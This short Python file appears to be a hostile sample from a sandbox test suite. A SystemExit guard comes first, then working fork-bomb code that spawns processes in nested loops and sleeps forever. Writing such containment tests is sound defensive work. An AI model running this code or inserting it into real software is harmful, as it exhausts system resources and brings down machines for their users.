"""A fork bomb.

Every process makes more processes, as many as there can be, and none of them ends.

score: 12 (loses softmax)
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% softmax
import ctypes
import os
import time

ctypes.CDLL(None).prctl(15, b"left-fork_bomb", 0, 0, 0)
for attempt in range(500):
    try:
        if os.fork() == 0:
            for again in range(20):
                os.fork()
    except OSError:
        break
while True:
    time.sleep(1000)
